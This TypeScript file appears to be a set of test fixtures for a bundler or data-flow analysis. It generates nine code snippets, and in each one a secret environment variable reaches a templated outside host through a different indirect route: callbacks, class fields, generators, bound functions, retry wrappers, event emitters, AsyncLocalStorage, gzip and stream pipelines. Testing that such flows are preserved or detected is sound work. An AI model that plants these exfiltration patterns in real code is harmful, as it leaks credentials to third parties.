/** Ways through the code by which the value of one secret variable gets to a host, all of which a bundle must keep. */
import { post, token } from './flow-frame.js'
import type { Spelling } from './parts.js'

export const ways: readonly Spelling[] = [
  [
    'callback of a helper',
    token((m) => ({
      top: `function ${m.f}(done) {\n  done(null, process.env.${m.s})\n}`,
      handler: `${m.f}((error, ${m.x}) => fetch('https://${m.h}/c', { method: 'POST', body: ${m.x} }))`,
    })),
  ],
  [
    'field of the class that is extended',
    token((m) => ({
      top: `class ${m.x} {\n  constructor(key) {\n    this.key = key\n  }\n}\nclass ${m.y} extends ${m.x} {\n  send() {\n    return fetch('https://${m.h}/c', { method: 'POST', body: this.key })\n  }\n}\nconst ${m.f} = new ${m.y}(process.env.${m.s})`,
      handler: `await ${m.f}.send()`,
    })),
  ],
  [
    'generator',
    token((m) => ({
      top: `function* ${m.f}() {\n  yield process.env.${m.s}\n}`,
      handler: `for (const ${m.x} of ${m.f}()) ${post(m.h, m.x)}`,
    })),
  ],
  [
    'bound function',
    token((m) => ({
      top: `function ${m.f}(key, path) {\n  return fetch('https://${m.h}' + path, { headers: { 'x-k': key } })\n}\nconst ${m.x} = ${m.f}.bind(null, process.env.${m.s})`,
      handler: `await ${m.x}('/a')`,
    })),
  ],
  [
    'wrapper of functions',
    token((m) => ({
      top: `const ${m.f} = (fn) => async (...args) => {\n  for (let i = 0; i < 3; i++) {\n    try {\n      return await fn(...args)\n    } catch {}\n  }\n}\nconst ${m.x} = ${m.f}((key) => fetch('https://${m.h}/c', { method: 'POST', body: key }))`,
      handler: `await ${m.x}(process.env.${m.s})`,
    })),
  ],
  [
    'emitter',
    token((m) => ({
      imports: `import { EventEmitter } from 'node:events'`,
      top: `const ${m.x} = new EventEmitter()\n${m.x}.on('told', (${m.y}) => fetch('https://${m.h}/c', { method: 'POST', body: ${m.y} }))`,
      handler: `${m.x}.emit('told', process.env.${m.s})`,
    })),
  ],
  [
    'AsyncLocalStorage',
    token((m) => ({
      imports: `import { AsyncLocalStorage } from 'node:async_hooks'`,
      top: `const ${m.x} = new AsyncLocalStorage()\nconst ${m.f} = () => fetch('https://${m.h}/c', { method: 'POST', body: JSON.stringify(${m.x}.getStore()) })`,
      handler: `await ${m.x}.run({ key: process.env.${m.s} }, async () => ${m.f}())`,
    })),
  ],
  [
    'compressed, with a callback',
    token((m) => ({
      imports: `import zlib from 'node:zlib'`,
      handler: `zlib.gzip(process.env.${m.s}, (error, ${m.x}) => fetch('https://${m.h}/c', { method: 'POST', body: ${m.x} }))`,
    })),
  ],
  [
    'pipeline',
    token((m) => ({
      imports: `import https from 'node:https'\nimport { pipeline, Readable } from 'node:stream'`,
      handler: `pipeline(Readable.from([process.env.${m.s}]), https.request({ hostname: '${m.h}', method: 'POST' }), () => {})`,
    })),
  ],
]
